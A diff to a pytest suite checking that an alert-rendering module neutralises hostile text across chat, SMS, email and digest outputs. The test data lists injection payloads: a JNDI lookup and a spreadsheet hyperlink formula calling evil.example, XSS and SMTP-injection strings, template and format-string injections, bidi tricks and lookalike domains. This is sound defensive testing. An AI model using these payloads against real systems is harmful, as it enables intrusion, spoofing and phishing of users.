@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import unicodedata
+from dataclasses import replace
 from html.parser import HTMLParser
 
 import pytest
@@ -10,7 +11,7 @@ from alert_samples import NOW, alert, met
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from monitor.alerts import render
+from monitor.alerts import render, render_digest
 from monitor.alerts.clean import escape_markdown, plain_line, safe_url, shorten, without_mentions
 
 # What is tried, and the words of it that must still be readable.
@@ -54,6 +55,41 @@ HOSTILE = [
     ("/start@bot command", "command"),
     ("tg://resolve?domain=x and javascript:alert(1)", "javascript"),
     ("a" * 100_000, "aaaa"),
+    ("@room and @group wake", "wake"),
+    ("@Everyone @EVERYONE @hEre", "very"),
+    ("<!everyone> <!subteam^S1|team>", "team"),
+    ("<users/all> wake", "users/all"),
+    ("<tg-spoiler>hid</tg-spoiler>", "hid"),
+    ("<a href='tg://user?id=1'>Bob</a>", "Bob"),
+    ("*bold* _italic_ ~struck~", "struck"),
+    ("***all of it***", "all of it"),
+    ("[x]: https://evil.example", "evil.example"),
+    ("[ref][1]", "ref"),
+    ("<t:1618953630:R> <:emoji:1> </cmd:1>", "emoji"),
+    ("||@everyone||", "veryone"),
+    ("```json\n{}\n```", "json"),
+    ("~~~ fenced", "fenced"),
+    ("| a | b |\n|---|---|", "a"),
+    ("---", ""),
+    ("#general and #hash", "general"),
+    ("{% for x in y %}{{ config }}{% endfor %}", "config"),
+    ("{0} {title} {__class__}", "class"),
+    ("%s %(title)s %n", "title"),
+    ("${jndi:ldap://evil.example/a}", "jndi"),
+    ('=HYPERLINK("https://evil.example")', "HYPERLINK"),
+    ("To: all@evil.example\r\n\r\nbody", "body"),
+    ("=?utf-8?q?Fake?=", "Fake"),
+    ("\r\n.\r\nQUIT", "QUIT"),
+    ("\x00\x00nul", "nul"),
+    ("\u2067rtl\u2069 \u202dforced\u202c", "forced"),
+    ("\ufff9note\ufffa \u180e gap", "note"),
+    ("https://bank.example@evil.example/", "evil.example"),
+    ("xn--pypal-4ve.example", "pypal"),
+    ("\u0000<script\u0000>alert(2)</script>", "alert(2)"),
+    ("<svg/onload=alert(3)>", "alert(3)"),
+    ("<style>*{display:none}</style>", "display"),
+    ("&#60;b&#62;", "60"),
+    ("\u0430pple\u200b.com", "pple"),
 ]
 KINDS = ["tgram", "discord", "slack", "mmost", "ntfy", "json", "twilio", "terminal", "mailto", "unheard-of"]
 
@@ -82,22 +118,26 @@ def _acts(line: str) -> bool:
 
 @pytest.mark.parametrize(("hostile", "words"), HOSTILE, ids=range(len(HOSTILE)))
 @pytest.mark.parametrize("kind", KINDS)
-def test_hostile_text_arrives_as_plain_words(kind: str, hostile: str, words: str) -> None:
-    """In every place of every message: headline, sentence, met words, source, watch and outlets."""
+@pytest.mark.parametrize("form", ["alone", "digest"])
+def test_hostile_text_arrives_as_plain_words(kind: str, hostile: str, words: str, form: str) -> None:
+    """In every place of every message: headline, sentence, met words, source, watch and outlets; in digests too."""
     base = alert(
         title=hostile,
         text=hostile,
         source=hostile,
         evidence=(met(hostile[:200], text=hostile, sentence=hostile[:400]),),
     )
-    message = render(base, kind=kind, zone="UTC", now=NOW)
+    if form == "alone":
+        message = render(base, kind=kind, zone="UTC", now=NOW)
+    else:
+        message = render_digest([base, replace(base, story=9)], kind=kind, zone="UTC", now=NOW)
     assert not _acts(message.title)
     assert not any(map(_acts, message.body.split("\n")))
     shown = message.title + "\n" + message.body
     if message.format == "html":
         page = _Page()
         page.feed(message.body)
-        assert page.tags <= {"div", "p", "h1", "a", "blockquote", "mark", "br"}
+        assert page.tags <= {"div", "p", "h1", "h2", "a", "blockquote", "mark", "br", "span"}
         assert {name for name, _ in page.attributes} <= {"style", "href", "dir"}
         assert all(value.startswith("https://") for name, value in page.attributes if name == "href" and value)
         assert words in page.words or words.rstrip("a") == ""
